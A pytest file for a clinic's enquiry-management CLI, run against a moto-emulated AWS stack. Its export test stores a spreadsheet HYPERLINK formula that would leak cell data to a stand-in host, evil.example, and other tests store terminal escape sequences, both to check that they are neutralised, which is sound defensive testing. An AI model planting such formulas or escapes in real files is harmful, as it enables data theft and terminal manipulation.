"""The operator's command, `enquiries`, against a stack in moto: every subcommand, as the clinic runs it.

The stack is a CloudFormation stack in moto whose outputs name the tables and queue (built from
template.yaml by the `dynamodb` fixture); the notifier is the real handler's record handler, run
for each Lambda Invoke the command makes, as concurrent Lambda instances would run it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any
from unittest import mock

import boto3
import pytest
from botocore.awsrequest import AWSResponse
from botocore.response import StreamingBody
from click.testing import CliRunner, Result
from moto.core.models import DEFAULT_ACCOUNT_ID
from moto.ses.models import ses_backends
from support import (
    GUARD_TABLE_NAME,
    REGION,
    SECRET_NAME,
    TABLE_NAME,
    FakeContext,
    MakeNotifier,
    with_json_body,
)

from emulator.stream import BatchSource, failure_record
from emulator.template_tables import load_template
from enquiries.aws import attribute_map
from enquiries.ids import new_enquiry_id
from enquiries.notify.mailer import sesv2_client
from enquiries_cli import cli as cli_module
from enquiries_cli import dead_letters, export, output, resend, scanning, target
from enquiries_cli.cli import cli

if TYPE_CHECKING:
    from email.message import EmailMessage

    from enquiries.notify.acknowledgement import RetargetableMailer
    from enquiries.notify.delivery import Mailer
    from enquiries.notify.handler import Notifier

STACK = "clinic-enquiries"
QUEUE = "clinic-enquiries-dead-letters"
NOTIFIER = "clinic-enquiries-NotifyEnquiryFunction"
SENDER = "enquiries@example-clinic.co.uk"
JANE = "Jane.Doe@Example.com"  # as a visitor typed it; stored as Jane.Doe@example.com
CLINIC = "reception@example-clinic.co.uk"


def stack_template(outputs: dict[str, str]) -> str:
    """A stack with these outputs (literal values: the resources themselves are made by the fixtures)."""
    return json.dumps(
        {
            "Resources": {
                "Placeholder": {"Type": "AWS::SQS::Queue", "Properties": {"QueueName": "placeholder"}}
            },
            "Outputs": {key: {"Value": value} for key, value in outputs.items()},
        }
    )


@dataclass
class Clinic:
    """A deployed stack, in moto, and what the tests look at."""

    dynamodb: Any
    queue_url: str
    notifier: Notifier  # what the notifier's init built
    invocations: list[list[str]] = field(default_factory=list)
    send_delay: float = 0.0

    def run(self, *args: str, input: str | None = None) -> Result:
        return CliRunner().invoke(cli, ["--stack", STACK, "--region", REGION, *args], input=input)

    def store(self, **fields: Any) -> str:
        """An enquiry as the submission function stores it (the contract's Storage section)."""
        created = fields.pop("created_at", datetime.now(UTC) - timedelta(hours=1))
        item = {
            "id": new_enquiry_id(),
            "name": "Jane Doe",
            "email": "Jane.Doe@example.com",
            "message": "My lower back has been stiff since a half marathon.",
            "consent": True,
            "created_at": created.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "expires_at": int((created + timedelta(days=365)).timestamp()),
            **fields,
        }
        self.dynamodb.put_item(TableName=TABLE_NAME, Item=attribute_map(item))
        return str(item["id"])

    def item(self, enquiry_id: str) -> dict[str, Any] | None:
        from enquiries.aws import plain_item

        found = self.dynamodb.get_item(
            TableName=TABLE_NAME, Key={"id": {"S": enquiry_id}}, ConsistentRead=True
        )
        return plain_item(found["Item"]) if "Item" in found else None

    def ids(self) -> set[str]:
        return {item["id"]["S"] for item in self.dynamodb.scan(TableName=TABLE_NAME)["Items"]}

    def guard_ids(self) -> set[str]:
        return {item["id"]["S"] for item in self.dynamodb.scan(TableName=GUARD_TABLE_NAME)["Items"]}

    def emails_about(self, enquiry_id: str) -> int:
        backend = ses_backends[DEFAULT_ACCOUNT_ID][REGION]
        return sum(enquiry_id in str(message.raw_data) for message in backend.sent_messages)


@dataclass
class SlowMailer:
    """The notifier's mailer, each send first waiting `delay()` seconds (SES taking its time)."""

    real: RetargetableMailer
    delay: Callable[[], float]

    def send(self, message: EmailMessage) -> str:
        time.sleep(self.delay())
        return self.real.send(message)

    def with_configuration_set(self, configuration_set: str | None) -> Mailer:
        """The acknowledgements' mailer: the real one, unwrapped."""
        return self.real.with_configuration_set(configuration_set)


@pytest.fixture
def clinic(dynamodb: Any, make_notifier: MakeNotifier, monkeypatch: pytest.MonkeyPatch) -> Iterator[Clinic]:
    monkeypatch.setenv("CLINIC_EMAIL", CLINIC)
    monkeypatch.setenv("SENDER_EMAIL", f"Clinic website <{SENDER}>")
    boto3.client("ses", region_name=REGION).verify_email_identity(EmailAddress=SENDER)
    queue_url = boto3.client("sqs", region_name=REGION).create_queue(QueueName=QUEUE)["QueueUrl"]
    outputs = {
        "TableName": TABLE_NAME,
        "GuardTableName": GUARD_TABLE_NAME,
        "NotifyFunctionName": NOTIFIER,
        "DeadLetterQueueUrl": queue_url,
        "AddressSecretArn": SECRET_NAME,
        "ClinicAddresses": CLINIC,
    }
    boto3.client("cloudformation", region_name=REGION).create_stack(
        StackName=STACK, TemplateBody=stack_template(outputs)
    )
    from enquiries.notify.handler import ses_mailer

    # Each send first waits the stack's send_delay, read as the send starts (after `deployed` is made).
    notifier = make_notifier(
        mailer_for=lambda mail: SlowMailer(ses_mailer(mail), lambda: deployed.send_delay)
    )
    deployed = Clinic(dynamodb=dynamodb, queue_url=queue_url, notifier=notifier.parts)
    session = target.aws_session(None)
    fake = fake_lambda(deployed)
    session.register("before-call.lambda.Invoke", fake)
    yield deployed
    session.unregister("before-call.lambda.Invoke", fake)
    sesv2_client.cache_clear()


def fake_lambda(clinic: Clinic) -> Callable[..., Any]:
    """Lambda's Invoke of the notifier: the real record handler, with a fresh batch processor per
    invocation (each invocation is its own Lambda instance, so two may run at once)."""
    from aws_lambda_powertools.utilities.batch import BatchProcessor, EventType

    from enquiries.notify.handler import process_batch

    def invoke(params: dict[str, Any], **kwargs: Any) -> tuple[AWSResponse, dict[str, Any]]:
        assert params["url_path"].endswith(f"/functions/{NOTIFIER}/invocations")
        event = json.loads(params["body"])
        clinic.invocations.append([r["dynamodb"]["Keys"]["id"]["S"] for r in event["Records"]])
        parsed: dict[str, Any] = {"StatusCode": 200}
        # Either the batch's answer or, as Lambda answers a function that raised, the error's.
        result: Mapping[str, Any]
        try:
            context = FakeContext(function_name=NOTIFIER)
            result = process_batch(
                event,
                context,  # type: ignore[arg-type]
                clinic.notifier,
                processor=BatchProcessor(event_type=EventType.DynamoDBStreams),
            )
        except Exception as error:  # as Lambda answers a function that raised
            result = {"errorType": type(error).__name__, "errorMessage": str(error)}
            parsed["FunctionError"] = "Unhandled"
        payload = json.dumps(result).encode()
        parsed["Payload"] = StreamingBody(io.BytesIO(payload), len(payload))
        return AWSResponse("https://lambda.local", 200, {}, None), parsed

    return invoke


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


# -- the target --------------------------------------------------------------------------------------


def test_target_stack_without_an_output_gives_a_clear_error(clinic: Clinic) -> None:
    # Given a stack deployed from an older template: no GuardTableName output
    boto3.client("cloudformation", region_name=REGION).create_stack(
        StackName="older-stack", TemplateBody=stack_template({"TableName": TABLE_NAME})
    )
    clinic.store(email="someone@example.com")
    base = ["--stack", "older-stack", "--region", REGION]
    # When a command that needs the guard table runs, and one that does not
    erase = CliRunner().invoke(cli, [*base, "erase", "--email", "someone@example.com", "--yes"])
    listed = CliRunner().invoke(cli, [*base, "list"])
    # Then the first fails with one line naming the missing output and what to do; the second works
    assert erase.exit_code == 1
    assert lines(erase.stderr) == [
        f"Error: the stack older-stack ({REGION}) has no output GuardTableName: "
        "deploy this version of template.yaml (sam deploy) to add it"
    ]
    assert clinic.ids()  # nothing deleted
    assert listed.exit_code == 0
    assert len(lines(listed.stdout)) == 1


def test_target_unknown_stack_is_one_line_and_exit_status_1(clinic: Clinic) -> None:
    # Given no stack of that name
    # When the command is pointed at it
    result = CliRunner().invoke(cli, ["--stack", "no-such-stack", "--region", REGION, "list"])
    # Then it says so in one line, without a traceback
    assert result.exit_code == 1
    assert lines(result.stderr) == [f"Error: there is no stack named no-such-stack in {REGION}"]


def test_target_aws_failure_is_one_line_without_a_traceback(clinic: Clinic) -> None:
    # Given a stack whose table is gone
    clinic.dynamodb.delete_table(TableName=TABLE_NAME)
    # When the command reads it
    result = clinic.run("list")
    # Then the reason is one line on standard error, and the status is 1
    assert result.exit_code == 1
    [line] = lines(result.stderr)
    assert line.startswith("Error: Scan failed: ResourceNotFoundException")
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["--local", "http://127.0.0.1:3000", "--stack", STACK, "list"],
        ["--local", "http://127.0.0.1:3000", "--region", REGION, "list"],
        ["--stack", STACK, "resend"],
        ["--stack", STACK, "resend", "01ABC", "--unnotified"],
        ["--stack", STACK, "resend", "01ABC", "--older-than", "5"],
        ["--stack", STACK, "resend", "--unnotified", "--older-than", "-1"],
        ["--stack", STACK, "list", "--since", "2026-13-01"],
        ["--stack", STACK, "list", "--since", "2026-11-02", "--until", "2026-11-01"],
        ["--stack", STACK, "export", "--format", "xlsx"],
        ["--stack", STACK, "stats", "--by", "year"],
        ["--stack", STACK, "erase", "--email", "not an address", "--yes"],
        ["--stack", STACK, "subject-access"],
    ],
)
def test_target_usage_errors_are_exit_status_2(clinic: Clinic, args: list[str]) -> None:
    # Given a command line the contract does not allow
    # When it runs
    result = CliRunner().invoke(cli, args)
    # Then it is a usage error (2), and nothing was read
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output


# -- list, show, stats ---------------------------------------------------------------------------------


def test_list_prints_one_line_per_enquiry_newest_first(clinic: Clinic) -> None:
    # Given three enquiries received on three days, the newest not emailed yet
    now = datetime.now(UTC)
    oldest = clinic.store(created_at=now - timedelta(days=3), notified_at="x", service="Osteopathy")
    middle = clinic.store(created_at=now - timedelta(days=2), notified_at="x", name="Zoë Ωμέγα")
    newest = clinic.store(created_at=now - timedelta(days=1))
    # When they are listed
    result = clinic.run("list")
    # Then there is one line each, newest first, saying which were emailed
    assert result.exit_code == 0
    listed = lines(result.stdout)
    assert [line.split()[0] for line in listed] == [newest, middle, oldest]
    assert "NOT EMAILED" in listed[0]
    assert "Zoë Ωμέγα <Jane.Doe@example.com>" in listed[1]
    assert listed[2].endswith("Osteopathy")


def test_list_since_until_and_unnotified_choose_the_enquiries(clinic: Clinic) -> None:
    # Given enquiries on 31 October, 1 November (one emailed, one not) and 2 November (UTC)
    day = datetime(2026, 11, 1, tzinfo=UTC)
    before = clinic.store(created_at=day - timedelta(minutes=1))
    emailed = clinic.store(created_at=day, notified_at="2026-11-01T00:00:01.000Z")
    waiting = clinic.store(created_at=day + timedelta(hours=23, minutes=59))
    after = clinic.store(created_at=day + timedelta(days=1))
    # When the list is limited to 1 November, and to what is not emailed
    one_day = clinic.run("list", "--since", "2026-11-01", "--until", "2026-11-01")
    unnotified = clinic.run("list", "--unnotified")
    # Then the dates are whole UTC days, both included, and --unnotified leaves out the emailed one
    assert {line.split()[0] for line in lines(one_day.stdout)} == {emailed, waiting}
    assert {line.split()[0] for line in lines(unnotified.stdout)} == {before, waiting, after}


def test_list_shows_stored_control_characters_as_replacement_characters(clinic: Clinic) -> None:
    # Given an enquiry whose name holds a terminal escape sequence (stored by some older version)
    clinic.store(name="Eve\x1b]0;owned\x07 \u202eevil")
    # When it is listed
    result = clinic.run("list")
    # Then no control character reaches the terminal
    assert "\x1b" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "Eve\ufffd]0;owned\ufffd \ufffdevil" in result.stdout


def test_show_prints_every_stored_attribute_as_json(clinic: Clinic) -> None:
    # Given an enquiry that was emailed, with non-Latin text
    enquiry_id = clinic.store(name="山田 太郎", phone="+448009875336", notified_at="x", ses_message_id="m-1")
    # When it is shown
    result = clinic.run("show", enquiry_id)
    # Then every attribute is there, the text as typed
    assert result.exit_code == 0
    shown = json.loads(result.stdout)
    assert shown == clinic.item(enquiry_id)
    assert "山田 太郎" in result.stdout
    assert list(shown)[:3] == ["id", "created_at", "name"]


def test_show_unknown_id_is_exit_status_1(clinic: Clinic) -> None:
    # Given no enquiry with that id
    # When it is shown
    result = clinic.run("show", "01NOSUCHENQUIRY0000000000")
    # Then the command says so, in one line
    assert result.exit_code == 1
    assert lines(result.stderr) == [
        f"Error: no enquiry with id 01NOSUCHENQUIRY0000000000 in the stack {STACK} ({REGION})"
    ]


def test_stats_counts_by_month_and_by_service(clinic: Clinic) -> None:
    # Given two enquiries in October (one for osteopathy) and one in November
    clinic.store(created_at=datetime(2026, 10, 3, tzinfo=UTC), service="Osteopathy")
    clinic.store(created_at=datetime(2026, 10, 30, tzinfo=UTC))
    clinic.store(created_at=datetime(2026, 11, 1, tzinfo=UTC), service="Osteopathy")
    # When they are counted by month and by service
    by_month = clinic.run("stats")
    by_service = clinic.run("stats", "--by", "service")
    # Then the counts add up
    assert [line.split() for line in lines(by_month.stdout)] == [
        ["month", "enquiries"],
        ["2026-10", "2"],
        ["2026-11", "1"],
        ["total", "3"],
    ]
    assert [line.rsplit(maxsplit=1) for line in lines(by_service.stdout)] == [
        ["service", "enquiries"],
        ["(none)", "1"],
        ["Osteopathy", "2"],
        ["total", "3"],
    ]


def utc_day(day: date, hour: int = 12) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


@pytest.mark.parametrize(
    ("since", "expected"),
    [("today", ["today"]), ("yesterday", ["today", "yesterday"]), ("7d", ["today", "yesterday", "week"])],
)
def test_list_since_takes_today_yesterday_and_days_ago(
    clinic: Clinic, since: str, expected: list[str]
) -> None:
    # Given enquiries received today, yesterday, 7 days ago and 8 days ago (UTC days)
    today = datetime.now(UTC).date()
    stored = {
        "today": clinic.store(created_at=utc_day(today, 0)),
        "yesterday": clinic.store(created_at=utc_day(today - timedelta(days=1), 23)),
        "week": clinic.store(created_at=utc_day(today - timedelta(days=7), 0)),
        "older": clinic.store(created_at=utc_day(today - timedelta(days=8), 23)),
    }
    # When the list starts from a day written as staff say it
    result = clinic.run("list", "--since", since)
    # Then it holds the enquiries from the start of that UTC day on
    assert result.exit_code == 0, result.output
    assert {line.split()[0] for line in lines(result.stdout)} == {stored[name] for name in expected}


def test_list_dates_in_uk_order_are_day_first(clinic: Clinic) -> None:
    # Given enquiries on 7 December and on 12 July 2026
    december = clinic.store(created_at=datetime(2026, 12, 7, 9, tzinfo=UTC))
    clinic.store(created_at=datetime(2026, 7, 12, 9, tzinfo=UTC))
    # When the list is limited to 07/12/2026, as written in the UK
    result = clinic.run("list", "--since", "07/12/2026", "--until", "7/12/2026")
    # Then that is 7 December
    assert result.exit_code == 0, result.output
    assert [line.split()[0] for line in lines(result.stdout)] == [december]


@pytest.mark.parametrize("written", ["12/25/2026", "31/02/2026", "07/12/26", "2026-7-12", "last week", "-1d"])
def test_list_unclear_or_impossible_date_is_a_usage_error_naming_the_forms(
    clinic: Clinic, written: str
) -> None:
    # Given a date that is month first, not on the calendar, or in no accepted form
    # When the list is limited by it
    result = clinic.run("list", "--since", written)
    # Then it is a usage error whose sentence names the forms that work, and nothing is guessed
    assert result.exit_code == 2
    assert "YYYY-MM-DD, DD/MM/YYYY (day first), today, yesterday, or Nd" in " ".join(result.stderr.split())
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("zone", "shown"),
    [(None, "Sun 12 Jul 2026 15:23 BST"), ("America/New_York", "Sun 12 Jul 2026 10:23 EDT")],
)
def test_list_shows_times_in_the_clinics_time_zone(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch, zone: str | None, shown: str
) -> None:
    # Given an enquiry received at 14:23 UTC in July, and TIMEZONE unset (Europe/London) or set
    if zone is None:
        monkeypatch.delenv("TIMEZONE", raising=False)
    else:
        monkeypatch.setenv("TIMEZONE", zone)
    enquiry_id = clinic.store(created_at=datetime(2026, 7, 12, 14, 23, tzinfo=UTC))
    # When it is listed
    result = clinic.run("list")
    # Then its time is the clinic's local time, as the notification email shows it
    assert result.exit_code == 0, result.output
    [line] = lines(result.stdout)
    assert line.startswith(f"{enquiry_id}  {shown}  NOT EMAILED")
    assert "14:23Z" not in line


def test_list_with_an_unknown_time_zone_names_the_setting(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given TIMEZONE set to no time zone
    monkeypatch.setenv("TIMEZONE", "Europe/Londres")
    clinic.store()
    # When the enquiries are listed
    result = clinic.run("list")
    # Then the command says which setting is wrong, in one line
    assert result.exit_code == 1
    assert lines(result.stderr) == [
        "Error: TIMEZONE is invalid: 'Europe/Londres' is not a time zone, like Europe/London"
    ]


def test_show_and_resend_accept_an_id_in_any_letter_case(clinic: Clinic) -> None:
    # Given an enquiry never emailed, and its id typed in lower case
    enquiry_id = clinic.store()
    typed = f" {enquiry_id.lower()} "
    # When it is shown and resent by that id
    shown = clinic.run("show", typed)
    resent = clinic.run("resend", typed)
    # Then both find it
    assert shown.exit_code == 0, shown.output
    assert json.loads(shown.stdout)["id"] == enquiry_id
    assert resent.exit_code == 0, resent.output
    assert lines(resent.stdout)[0].startswith(f"{enquiry_id}  sent (")
    assert clinic.emails_about(enquiry_id) == 1


# -- export -------------------------------------------------------------------------------------------


CONTRACT_HEADER = "id,created_at,name,email,phone,service,message,consent,notified_at"


def test_export_csv_has_the_contract_header_and_formula_safe_cells(clinic: Clinic) -> None:
    # Given enquiries whose text a spreadsheet would run as a formula
    dangerous = {
        '=HYPERLINK("https://evil.example/?"&A1, "Click for your results")': "=",
        "+44 call me": "+",
        "-2+3": "-",
        "@SUM(1+1)": "@",
        "\tTabbed": "\t",
        "\rReturned": "\r",
    }
    for name in dangerous:
        clinic.store(name=name, phone="+448009875336", message=name)
    clinic.store(name="Plain Name", message="A plain message - with a dash inside")
    # When they are exported as CSV
    result = clinic.run("export")
    # Then the header is the contract's, and every cell that begins like a formula starts with '
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == CONTRACT_HEADER
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    by_name = {row["name"]: row for row in rows}
    for name in dangerous:
        row = by_name["'" + name]
        assert row["message"] == "'" + name
        assert row["phone"] == "'+448009875336"
    assert by_name["Plain Name"]["message"] == "A plain message - with a dash inside"
    assert by_name["Plain Name"]["phone"] == ""
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_export_keeps_non_latin_text_intact_in_csv_and_json(clinic: Clinic, tmp_path: Path) -> None:
    # Given an enquiry written in Greek, Japanese and with an emoji, over two lines
    message = "Πονάει η πλάτη μου.\n腰が痛いです 🙏"
    enquiry_id = clinic.store(name="Ζωή 山田", message=message)
    # When it is exported to files, as CSV and as JSON
    csv_file, json_file = tmp_path / "enquiries.csv", tmp_path / "enquiries.json"
    assert clinic.run("export", "--output", str(csv_file)).exit_code == 0
    assert clinic.run("export", "--format", "json", "--output", str(json_file)).exit_code == 0
    # Then both are UTF-8 and hold the text exactly
    [row] = list(csv.DictReader(io.StringIO(csv_file.read_bytes().decode("utf-8"), newline="")))
    assert (row["id"], row["name"], row["message"]) == (enquiry_id, "Ζωή 山田", message)
    [record] = json.loads(json_file.read_bytes().decode("utf-8"))
    assert (record["name"], record["message"]) == ("Ζωή 山田", message)
    assert "Ζωή 山田".encode() in json_file.read_bytes()  # as text, not \u-escaped


ESCAPES = "x \x1b]0;PWNED\x07 \x1b[31mRED \x9b31m \x9d0;T\x9c \x7f \x08\x08 a\rb"
TERMINAL_ACTS_ON = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\x7f", "\x08", "a\rb")


@pytest.mark.parametrize(
    "command", [("export",), ("export", "--format", "json"), ("list",), ("stats", "--by", "service")]
)
def test_every_command_writes_no_escape_sequence_to_a_terminal(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]
) -> None:
    # Given an enquiry whose message and service hold escape sequences and other controls (stored
    # before the API refused them)
    clinic.store(name="Eve", message=ESCAPES, service=ESCAPES)
    # When it is written to standard output while that is a terminal
    monkeypatch.setattr(output, "stdout_is_terminal", lambda: True, raising=False)
    result = clinic.run(*command)
    # Then no character a terminal would act on reaches it
    assert result.exit_code == 0, result.output
    for control in TERMINAL_ACTS_ON:
        assert control not in result.stdout
    assert "\ufffd" in result.stdout or command[-1] == "json"


def test_show_and_subject_access_write_no_escape_sequence_to_a_terminal(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an enquiry holding escape sequences, and standard output a terminal
    enquiry_id = clinic.store(email="eve@example.com", message=ESCAPES, service=ESCAPES)
    monkeypatch.setattr(output, "stdout_is_terminal", lambda: True, raising=False)
    # When it is shown, and given in answer to a subject access request
    shown = clinic.run("show", enquiry_id)
    answered = clinic.run("subject-access", "--email", "eve@example.com")
    # Then neither writes a control character, and both still hold the message exactly as JSON
    for result in (shown, answered):
        assert result.exit_code == 0, result.output
        for control in TERMINAL_ACTS_ON:
            assert control not in result.stdout
    assert json.loads(shown.stdout)["message"] == ESCAPES
    assert json.loads(answered.stdout)["enquiries"][0]["message"] == ESCAPES


def test_export_to_a_pipe_or_a_file_keeps_the_message_exactly(clinic: Clinic, tmp_path: Path) -> None:
    # Given an enquiry whose message holds escape sequences
    clinic.store(message=ESCAPES)
    # When it is exported to a pipe (standard output not a terminal) and to a file
    piped = clinic.run("export")
    exported = tmp_path / "enquiries.csv"
    assert clinic.run("export", "--output", str(exported)).exit_code == 0
    # Then both hold the stored message byte for byte: the data is the clinic's to keep
    for text in (piped.stdout, exported.read_bytes().decode("utf-8")):
        [row] = list(csv.DictReader(io.StringIO(text, newline="")))
        assert row["message"] == ESCAPES


def test_export_json_is_a_list_of_objects_with_the_csv_keys(clinic: Clinic) -> None:
    # Given an emailed enquiry with every field, and one with only the required ones
    full = clinic.store(phone="+448009875336", service="Osteopathy", notified_at="2026-11-01T00:00:00.000Z")
    bare = clinic.store()
    # When they are exported as JSON
    result = clinic.run("export", "--format", "json")
    # Then each object has exactly the CSV's keys, in order, missing ones null
    exported = {record["id"]: record for record in json.loads(result.stdout)}
    assert set(exported) == {full, bare}
    for record in exported.values():
        assert ",".join(record) == CONTRACT_HEADER
    assert exported[full]["consent"] is True
    assert exported[bare]["phone"] is None
    assert exported[bare]["notified_at"] is None


def test_export_empty_table_gives_the_header_or_an_empty_list(clinic: Clinic) -> None:
    # Given no enquiries
    # When they are exported
    as_csv, as_json = clinic.run("export"), clinic.run("export", "--format", "json")
    # Then the CSV has its header and the JSON is an empty list
    assert as_csv.stdout_bytes == (CONTRACT_HEADER + "\r\n").encode()
    assert json.loads(as_json.stdout) == []


def test_export_file_is_readable_only_by_its_owner(clinic: Clinic, tmp_path: Path) -> None:
    # Given an enquiry
    clinic.store()
    # When it is exported to a file
    path = tmp_path / "enquiries.csv"
    result = clinic.run("export", "--output", str(path))
    # Then the file holds it, only its owner may read it, and no partial file is left behind
    assert result.exit_code == 0
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [path]
    assert "Exported 1 enquiry to" in result.stderr


def test_export_writes_each_page_before_reading_the_next(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given 25 enquiries, read 10 to a page
    monkeypatch.setattr(scanning, "PAGE_SIZE", 10)
    for _ in range(25):
        clinic.store()
    events: list[str] = []
    session = target.aws_session(None)

    def on_scan(**kwargs: Any) -> None:
        events.append("scan")

    original = export.write_csv

    def counting_writer(items: Any, out: Any) -> int:
        def rows() -> Iterator[Any]:
            for item in items:
                events.append("row")
                yield item

        return original(rows(), out)

    monkeypatch.setattr(export, "write_csv", counting_writer)
    session.register("before-call.dynamodb.Scan", on_scan)
    try:
        # When they are exported
        result = clinic.run("export")
    finally:
        session.unregister("before-call.dynamodb.Scan", on_scan)
    # Then the pages are read one at a time, each written out before the next is asked for
    assert result.exit_code == 0
    assert len(lines(result.stdout)) == 26
    pages = "".join("S" if event == "scan" else "r" for event in events)
    assert pages == "S" + "r" * 10 + "S" + "r" * 10 + "S" + "r" * 5


def test_export_shows_progress_on_standard_error_only_for_a_terminal(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an enquiry
    clinic.store()
    # When it is exported with standard error not a terminal, then as if it were one
    quiet = clinic.run("export")
    monkeypatch.setattr(output, "stderr_is_terminal", lambda: True)
    shown = clinic.run("export")
    # Then progress appears only for the terminal, and never in the exported data
    assert quiet.stderr == ""
    assert "Exporting enquiries" in shown.stderr
    assert shown.stdout == quiet.stdout


def test_export_excel_csv_starts_with_a_byte_order_mark_and_is_otherwise_the_csv(
    clinic: Clinic, tmp_path: Path
) -> None:
    # Given an enquiry with accented and non-Latin text
    clinic.store(name="Zoë Ωμέγα", message="Douleur à l'épaule")
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    # When it is exported as CSV and as CSV for Excel
    clinic.run("export", "--output", str(plain))
    result = clinic.run("export", "--format", "excel-csv", "--output", str(excel))
    # Then the Excel file begins with UTF-8's byte order mark, which makes Excel and LibreOffice read
    # it as UTF-8, and after it is the same CSV, readable only by its owner
    assert result.exit_code == 0, result.output
    assert excel.read_bytes()[:3] == b"\xef\xbb\xbf"
    assert excel.read_bytes()[3:] == plain.read_bytes()
    assert "Zoë Ωμέγα" in excel.read_text(encoding="utf-8-sig")
    assert stat.S_IMODE(excel.stat().st_mode) == 0o600


@pytest.mark.parametrize("command", [["export"], ["subject-access", "--email", JANE]])
def test_output_refuses_to_replace_a_file_without_force(
    clinic: Clinic, tmp_path: Path, command: list[str]
) -> None:
    # Given a file already there, and an enquiry
    clinic.store()
    existing = tmp_path / "enquiries.csv"
    existing.write_text("last month's export\n")
    # When the command is asked to write to it, without and then with --force
    refused = clinic.run(*command, "--output", str(existing))
    kept = existing.read_text()
    forced = clinic.run(*command, "--output", str(existing), "--force")
    # Then the first is a usage error that says what to do and leaves the file as it was; the second
    # replaces it, readable only by its owner
    assert refused.exit_code == 2
    assert f"{existing} already exists: give another file name, or add --force to replace it" in " ".join(
        refused.stderr.split()
    )
    assert kept == "last month's export\n"
    assert forced.exit_code == 0, forced.output
    assert existing.read_text() != kept
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600


def test_output_file_made_while_writing_is_not_replaced(tmp_path: Path) -> None:
    # Given an output file that appears while the export is being written
    path = tmp_path / "enquiries.csv"

    # When the export finishes without --force
    def export_meanwhile() -> None:
        with output.output_file(str(path), newline="", force=False) as out:
            out.write("id\r\n")
            path.write_text("someone else's file\n")

    with pytest.raises(output.FileExists):
        export_meanwhile()
    # Then that file is left as it is, and no partial file remains
    assert path.read_text() == "someone else's file\n"
    assert sorted(tmp_path.iterdir()) == [path]


# -- erase and subject access ----------------------------------------------------------------------


def submit(clinic: Clinic, handler: Callable[[dict[str, Any]], dict[str, Any]], email: str, key: str) -> str:
    """An enquiry through the real submission handler, with an Idempotency-Key: it leaves replay
    records in the guard table that name it."""
    body = {"name": "Jane Doe", "email": email, "message": f"Knee pain ({key})", "consent": True}
    response = handler(with_json_body("submit-json.json", body, headers={"idempotency-key": key}))
    assert response["statusCode"] == 201, response
    return str(json.loads(response["body"])["id"])


def test_erase_deletes_every_enquiry_from_the_address_in_any_letter_case_and_leaves_others_alone(
    clinic: Clinic, handler: Callable[[dict[str, Any]], dict[str, Any]]
) -> None:
    # Given Jane's enquiries under three spellings of her address, with their replay records, and
    # another person's enquiry and records
    janes = [
        submit(clinic, handler, "Jane.Doe@Example.com", "key-1"),
        submit(clinic, handler, "jane.doe@example.com", "key-2"),
        clinic.store(email="JANE.DOE@EXAMPLE.COM"),
    ]
    other = submit(clinic, handler, "john.doe@example.com", "key-3")
    lookalike = clinic.store(email="jane.doe@example.com.evil.example")
    guard_before = clinic.guard_ids()
    # When her address is erased
    result = clinic.run("erase", "--email", " jane.doe@EXAMPLE.com ", "--yes")
    # Then her enquiries and their replay records are gone; the others' are all still there
    assert result.exit_code == 0, result.output
    assert clinic.ids() == {other, lookalike}
    guard_after = clinic.guard_ids()
    assert {record for record in guard_before - guard_after if not record.startswith("replay#")} == set()
    assert len(guard_before - guard_after) == 4  # two requests' replay records (key and double-submit)
    assert [record for record in guard_after if record.startswith("replay#")] != []  # John's stay
    # And the line it prints has the count and the ids, never the address
    [line] = lines(result.stdout)
    printed = line.removeprefix("erase: deleted 3 enquiries (").removesuffix(") and 4 linked request records")
    assert sorted(printed.split(", ")) == sorted(janes)
    assert "jane" not in result.output.lower()


def acknowledge(clinic: Clinic, enquiry_id: str, email: str) -> str:
    """The acknowledgement's claim on `email` for `enquiry_id`, made as the notifier makes it (its
    store, its address-hashing key and the text it hashes); the claim's record id."""
    from enquiries.client_address import AddressHasher
    from enquiries.notify.ack_store import DynamoAcknowledgementStore, Reservation, address_record_id
    from enquiries.notify.acknowledgement import address_hash_text

    hashed = AddressHasher(SECRET_NAME).hash(address_hash_text(email))
    store = DynamoAcknowledgementStore(TABLE_NAME, GUARD_TABLE_NAME, daily_cap=100)
    # As a notifier deployed with acknowledgements on: only that role may write the claim.
    with mock.patch.dict(os.environ, {"ACKNOWLEDGE_ENQUIRER": "true"}):
        assert store.reserve(enquiry_id, hashed, time.time()) == Reservation.RESERVED
    return address_record_id(hashed)


def test_erase_deletes_the_acknowledgements_claim_on_the_address(clinic: Clinic) -> None:
    # Given Jane's enquiry, acknowledged (the guard table keeps ack#<keyed hash> naming it for a day),
    # and John's, acknowledged too
    jane = clinic.store(email="Jane.Doe@example.com")
    janes_claim = acknowledge(clinic, jane, "Jane.Doe@example.com")
    john = clinic.store(email="john@example.com")
    johns_claim = acknowledge(clinic, john, "john@example.com")
    # When her address is erased
    result = clinic.run("erase", "--email", "JANE.DOE@example.com", "--yes")
    # Then her enquiry and its claim are gone, and John's claim stays
    assert result.exit_code == 0, result.output
    assert clinic.ids() == {john}
    assert janes_claim not in clinic.guard_ids()
    assert johns_claim in clinic.guard_ids()
